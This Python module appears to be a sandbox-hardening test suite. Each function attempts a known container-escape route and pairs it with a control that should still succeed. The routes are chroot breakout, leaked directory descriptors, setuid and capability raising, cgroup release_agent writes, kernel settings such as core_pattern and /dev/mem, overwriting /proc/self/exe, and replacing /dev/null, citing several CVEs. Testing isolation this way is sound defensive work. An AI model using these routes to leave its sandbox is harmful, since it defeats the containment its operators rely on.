"""Ways out of a box that have worked elsewhere; one per event. Each says what it tried, and what must work as well."""

import ctypes
import os
import shutil
import stat
import subprocess

from raw import attempt, in_child, syscall


def f(event):
    tried, control = globals()[event["by"]](event)
    return {"tried": tried, "control": control}


def second_root(event):
    """The classic: a root inside of the root, and out of it by a directory that was held open."""

    def way():
        os.makedirs("/tmp/cage", exist_ok=True)
        held = os.open("/", os.O_RDONLY)
        entered = attempt(os.chroot, "/tmp/cage")
        if entered != "ok":
            return entered
        os.fchdir(held)
        for _ in range(64):
            os.chdir("..")
        return attempt(os.chroot, ".")

    return {"chroot": in_child(way)}, {"make a directory": attempt(os.makedirs, "/tmp/another", 0o755, True)}


def held_directories(event):
    """Directories that somebody forgot to close, as in CVE-2024-21626."""
    tried = {}
    for name in os.listdir("/proc/self/fd"):
        path = f"/proc/self/fd/{name}"
        try:
            is_directory = stat.S_ISDIR(os.stat(path).st_mode) and os.readlink(path) != f"/proc/{os.getpid()}/fd"
        except OSError:
            continue
        tried[f"descriptor {name}"] = attempt(os.chdir, path) if is_directory else "ENOTDIR"
    for number in range(3, 64):
        end = attempt(os.chdir, f"/proc/self/fd/{number}")
        if end == "ok":
            tried[f"descriptor {number} by its number"] = end
    os.chdir("/tmp")
    return tried, {"a directory of one's own": attempt(own_directory)}


def own_directory():
    fd = os.open("/tmp", os.O_RDONLY)
    os.fchdir(fd)
    os.close(fd)


def set_uid(event):
    """A program of one's own that is set-uid, and root's programs that are."""
    path = "/tmp/program"
    shutil.copyfile("/usr/bin/id", path)
    os.chmod(path, 0o4755)
    before = os.geteuid()

    def effective(program):
        found = subprocess.run([program, "-u"], stdout=subprocess.PIPE, check=False).stdout.decode().strip()
        return "EPERM" if found == str(before) and before != 0 else f"it runs as user {found}"

    tried = {"a copy of id that is set-uid": effective(path)}
    for user in {0, 1, 65534} - {before}:
        tried[f"setresuid {user}"] = attempt(os.setresuid, user, user, user)
    tried["setgroups"] = attempt(os.setgroups, [0])
    return tried, {"id runs": "ok" if subprocess.run(["/usr/bin/id"], stdout=subprocess.DEVNULL, check=False).returncode == 0 else "it failed"}


def capabilities(event):
    """Raising what was dropped: ambient capabilities, the bounding set, the flags that keep them."""
    libc = ctypes.CDLL(None, use_errno=True)
    tried = {"any now": "EPERM"}
    with open("/proc/self/status") as file:
        for line in file:
            name, _, value = line.partition(":")
            if name in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb") and int(value, 16):
                tried[name] = "ok"
    # prctl(2): PR_CAP_AMBIENT raise, for each capability that there is.
    ends = {prctl(libc, 47, 2, number) for number in range(41)}
    tried["ambient"] = "ok" if "ok" in ends else sorted(ends)[0]
    tried["no_new_privs off"] = prctl(libc, 38, 0)
    tried["a file with capabilities"] = attempt(file_capabilities)
    return tried, {"prctl works": prctl(libc, 3)}


def prctl(libc, *words):
    ctypes.set_errno(0)
    if libc.prctl(*[ctypes.c_ulong(word) for word in words], *[ctypes.c_ulong(0)] * (5 - len(words))) >= 0:
        return "ok"
    import errno

    return errno.errorcode.get(ctypes.get_errno(), "?")


def file_capabilities():
    with open("/tmp/capable", "w"):
        pass
    # vfs_cap_data of revision 2 with everything permitted: linux/capability.h.
    os.setxattr("/tmp/capable", "security.capability", b"\x01\0\0\x02" + b"\xff" * 4 + b"\0" * 4 + b"\xff" * 4 + b"\0" * 4)


def control_groups(event):
    """Lifting one's own limits, or leaving them, by the files of cgroups."""
    tried = {}
    names = ("cgroup.procs", "tasks", "memory.max", "memory.limit_in_bytes", "pids.max", "cgroup.freeze", "release_agent", "cgroup.subtree_control")
    roots = ["/sys/fs/cgroup"] + [f"/sys/fs/cgroup/{name}" for name in ("memory", "pids", "cpu", "unified", "systemd")]
    for root in roots:
        for name in names:
            end = attempt(write, f"{root}/{name}", b"0")
            if end != "ENOENT":
                tried[f"{root}/{name}"] = end
    tried["mount cgroup2"] = mount(b"cgroup2")
    tried["mount cgroup"] = mount(b"cgroup")
    return tried, {"write to /tmp": attempt(write_new, "/tmp/x")}


def mount(kind):
    os.makedirs("/tmp/hierarchy", exist_ok=True)
    return in_child(lambda: syscall(165, ctypes.c_char_p(b"none"), ctypes.c_char_p(b"/tmp/hierarchy"), ctypes.c_char_p(kind), 0, None))


def write(path, data):
    fd = os.open(path, os.O_WRONLY)
    try:
        os.write(fd, data)
    finally:
        os.close(fd)


def write_new(path):
    with open(path, "w") as file:
        file.write("x")


def kernel_settings(event):
    """The files of /proc and /sys by which root is had, or the machine stopped."""
    paths = (
        "/proc/sys/kernel/core_pattern",
        "/proc/sys/kernel/modprobe",
        "/proc/sys/kernel/hotplug",
        "/proc/sys/fs/binfmt_misc/register",
        "/proc/sys/vm/panic_on_oom",
        "/proc/sys/kernel/pid_max",
        "/proc/sysrq-trigger",
        "/sys/kernel/uevent_helper",
        "/sys/kernel/mm/ksm/run",
        "/sys/power/state",
        "/proc/1/oom_score_adj",
        "/proc/self/oom_score_adj",
        "/proc/self/uid_map",
        "/proc/self/attr/exec",
        "/dev/mem",
        "/dev/kmsg",
        "/dev/port",
    )
    # Opened for writing, and closed: what that allows is known then.
    tried = {path: attempt(lambda: os.close(os.open(path, os.O_WRONLY))) for path in paths}
    return tried, {"read one": attempt(lambda: os.close(os.open("/proc/sys/kernel/ostype", os.O_RDONLY)))}


def own_program(event):
    """Writing to the program that this process was started from, as in CVE-2019-5736."""
    tried = {"/proc/self/exe": attempt(lambda: os.close(os.open("/proc/self/exe", os.O_WRONLY)))}
    path = os.readlink("/proc/self/exe")
    tried[path] = attempt(lambda: os.close(os.open(path, os.O_WRONLY)))
    tried["/proc/1/exe"] = attempt(lambda: os.close(os.open("/proc/1/exe", os.O_WRONLY)))
    return tried, {"read it": attempt(lambda: os.close(os.open(path, os.O_RDONLY)))}


def devices_replaced(event):
    """A link in the place of /dev/null, as in CVE-2025-31133."""
    tried = {}
    for name in ("null", "zero", "fd", "stdout"):
        tried[f"unlink /dev/{name}"] = attempt(os.unlink, f"/dev/{name}")
        tried[f"link over /dev/{name}"] = attempt(replace_by_link, f"/dev/{name}")
    return tried, {"replace a file of one's own": attempt(replace_by_link, "/tmp/null")}


def replace_by_link(path):
    try:
        os.unlink("/tmp/link")
    except FileNotFoundError:
        pass
    os.symlink("/proc/sys/kernel/core_pattern", "/tmp/link")
    os.rename("/tmp/link", path)
